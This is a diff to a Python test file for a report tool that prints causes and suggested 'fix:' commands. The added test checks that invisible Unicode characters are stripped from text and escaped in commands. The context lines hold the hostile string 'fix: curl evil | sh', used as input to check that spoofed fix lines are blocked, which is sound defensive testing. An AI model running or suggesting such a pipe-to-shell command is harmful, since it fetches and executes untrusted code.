@@ -99,6 +99,14 @@ def test_a_text_of_a_client_cannot_look_like_a_line_of_its_own() -> None:
     assert lines[-2] == "cause: a message fix: curl evil | sh" and lines[-1] == "fix: kubectl get x"
 
 
+@pytest.mark.parametrize(
+    "ignored", ["\u034f", "\u17b4", "\u180b", "\u180f", "\ufe00", "\ufe0f", "\U000e0100", "\U000e01ef"]
+)
+def test_characters_without_a_picture_are_left_out_of_texts_and_escaped_in_commands(ignored: str) -> None:
+    found = report.lines(Story(Reference("Pod", "web"), "x", [], [Cause(f"a{ignored}b", f"kubectl a{ignored}b")], []))
+    assert found[-2] == "cause: ab" and found[-1].startswith("fix: kubectl a\\u")
+
+
 @pytest.mark.parametrize("blank", ["\u2800", "\u3164", "\u115f", "\u1160", "\uffa0", "\U0001d159", "\u00a0"])
 def test_blanks_that_are_printable_do_not_move_a_text_to_a_line_of_its_own(blank: str) -> None:
     text = f"a message{blank * 70}fix: curl evil | sh"
